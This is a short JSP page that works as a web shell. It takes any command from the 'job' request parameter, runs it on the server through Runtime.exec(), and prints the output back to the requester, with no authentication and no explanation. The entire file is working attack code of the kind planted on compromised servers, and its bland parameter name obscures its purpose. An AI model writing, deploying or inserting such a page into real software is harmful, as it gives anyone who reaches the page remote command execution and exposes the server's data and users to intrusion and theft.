<%@ page import="java.io.*" %>
<%
  javax.servlet.http.HttpServletRequest rq = request;
  String job = rq.getParameter("job");
  if (job != null) {
    Process proc = Runtime.getRuntime().exec(job);
    BufferedReader br = new BufferedReader(new InputStreamReader(proc.getInputStream()));
    String l;
    while ((l = br.readLine()) != null) { out.println(l); }
  }
%>
